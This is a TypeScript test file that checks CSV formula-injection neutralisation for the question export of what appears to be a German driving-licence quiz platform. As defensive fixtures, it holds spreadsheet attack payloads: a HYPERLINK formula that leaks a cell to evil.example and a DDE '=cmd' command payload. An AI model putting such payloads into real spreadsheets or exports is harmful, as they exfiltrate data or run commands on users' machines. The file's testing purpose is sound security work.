import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell, restoreCsvCell, startsLikeFormula } from './csv-cells';
import { buildQuestionCsvTemplate, parseQuestionCsv, toQuestionCsv } from './question-csv';
import { writeCsv } from './write-csv';

describe('formula cells', () => {
  it("a cell starting with '=', '+', '-', '@', a tab or a carriage return is a formula to a spreadsheet", () => {
    for (const cell of ['=1+1', '+49 170', '-5 Punkte', '@SUMME(A1)', '\t=1', '\r=1']) expect(startsLikeFormula(cell), cell).toBe(true);
    for (const cell of ['', 'A=B', ' =1', "'=1", 'Führerschein']) expect(startsLikeFormula(cell), cell).toBe(false);
  });

  it('neutralises with a leading single quote, and the reader takes it off again', () => {
    expect(neutraliseCsvCell('=HYPERLINK("http://evil.example","Klick")')).toBe('\'=HYPERLINK("http://evil.example","Klick")');
    expect(neutraliseCsvCell('Alkohol')).toBe('Alkohol');
    expect(restoreCsvCell("'=1+1")).toBe('=1+1');
    expect(restoreCsvCell("'Zitat'")).toBe("'Zitat'");
  });

  it('writeCsv neutralises every cell, header included', () => {
    const csv = writeCsv(
      ['=h', 'b'],
      [
        ['@x', '-1'],
        ['ok', '+2'],
      ],
      { delimiter: ';', newline: '\n' },
    );
    expect(Papa.parse<string[]>(csv, { delimiter: ';' }).data).toEqual([
      ["'=h", 'b'],
      ["'@x", "'-1"],
      ['ok', "'+2"],
    ]);
  });

  it('writeCsv leaves an amount the caller wrote in an amount column a number, and neutralises anything else there', () => {
    const csv = writeCsv(
      ['Nummer', 'Brutto'],
      [
        ['-1', '-89,00'],
        ['x', '-1+1'],
        ['y', '=1'],
      ],
      {
        delimiter: ';',
        newline: '\n',
        amountColumns: [1],
      },
    );
    expect(Papa.parse<string[]>(csv, { delimiter: ';' }).data).toEqual([
      ['Nummer', 'Brutto'],
      ["'-1", '-89,00'],
      ['x', "'-1+1"],
      ['y', "'=1"],
    ]);
  });
});

describe('the question CSV the platform writes', () => {
  const dangerous = {
    categoryName: 'Alkohol',
    question: '=HYPERLINK("http://evil.example/?d="&A1,"Hier klicken")',
    options: ['+1', '-1', '@SUMME(A1:A9)', '\t=2+2'],
    correctAnswers: ['-1'],
    explanation: "=cmd|' /C calc'!A0",
    difficulty: 'easy' as const,
    mpuTypes: ['alcohol' as const],
  };

  it('an export with a cell "=HYPERLINK(…)" comes out neutralised, every cell of it', () => {
    const csv = toQuestionCsv([dangerous]);
    const [, cells] = Papa.parse<string[]>(csv, { delimiter: ';' }).data;
    expect(cells).toEqual([
      'Alkohol',
      '\'=HYPERLINK("http://evil.example/?d="&A1,"Hier klicken")',
      "'+1",
      "'-1",
      "'@SUMME(A1:A9)",
      "'\t=2+2",
      'b',
      "'=cmd|' /C calc'!A0",
      'easy',
      'alcohol',
      // legal basis, Rechtsstand and the Turkish and English columns, empty
      ...Array<string>(14).fill(''),
    ]);
    expect(cells!.filter((cell) => startsLikeFormula(cell))).toEqual([]);
  });

  it('reads back what it wrote', () => {
    const parsed = parseQuestionCsv(toQuestionCsv([dangerous]));
    // the tab goes with the trimming of every cell, as for any option typed with a leading tab
    expect(parsed).toMatchObject({ ok: true, errors: [], rows: [{ ...dangerous, options: ['+1', '-1', '@SUMME(A1:A9)', '=2+2'] }] });
  });

  it('the template has no cell that starts like a formula', () => {
    const cells = Papa.parse<string[]>(buildQuestionCsvTemplate().slice(1), { delimiter: ',' }).data.flat();
    expect(cells.filter((cell) => startsLikeFormula(cell))).toEqual([]);
  });
});
